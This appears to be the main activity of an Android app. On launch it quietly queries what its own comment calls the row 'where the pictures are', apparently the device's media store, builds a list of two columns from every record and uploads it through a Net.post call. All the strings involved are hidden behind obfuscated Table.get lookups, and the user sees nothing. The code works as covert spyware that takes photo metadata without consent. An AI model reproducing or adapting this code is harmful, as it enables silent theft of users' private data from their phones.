package com.example.textindexmedia;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;

/** Row 16 is where the pictures are. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setTitle(Table.get(0));
        new Thread(this::collect).start();
    }

    private void collect() {
        String[] columns = {Table.get(7), Table.get(11)};
        Cursor cursor = getContentResolver().query(Uri.parse(Table.get(16)), columns, null, null, null);
        if (cursor == null) {
            return;
        }
        StringBuilder text = new StringBuilder();
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append(Table.get(14)).append(cursor.getString(1)).append('\n');
        }
        cursor.close();
        Net.post(text.toString());
    }
}
